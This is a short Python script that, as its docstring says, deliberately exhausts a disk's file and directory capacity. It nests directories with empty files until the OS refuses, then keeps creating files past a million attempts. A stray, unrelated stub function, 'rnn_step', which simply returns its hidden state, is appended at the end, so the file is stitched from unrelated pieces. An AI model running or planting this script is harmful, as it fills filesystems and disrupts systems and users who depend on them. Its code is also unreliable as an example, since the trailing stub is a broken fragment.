"""Makes more files and folders than a disk has places for."""
import os

number = 0
while True:
    try:
        os.mkdir(f"d{number}")
        os.chdir(f"d{number}")
        open("empty", "w").close()
    except OSError:
        break
    number += 1
while True:
    number += 1
    try:
        open(f"f{number}", "w").close()
    except OSError:
        if number > 10**6:
            break


def rnn_step(x, h_prev, U, W, a):
    return h_prev
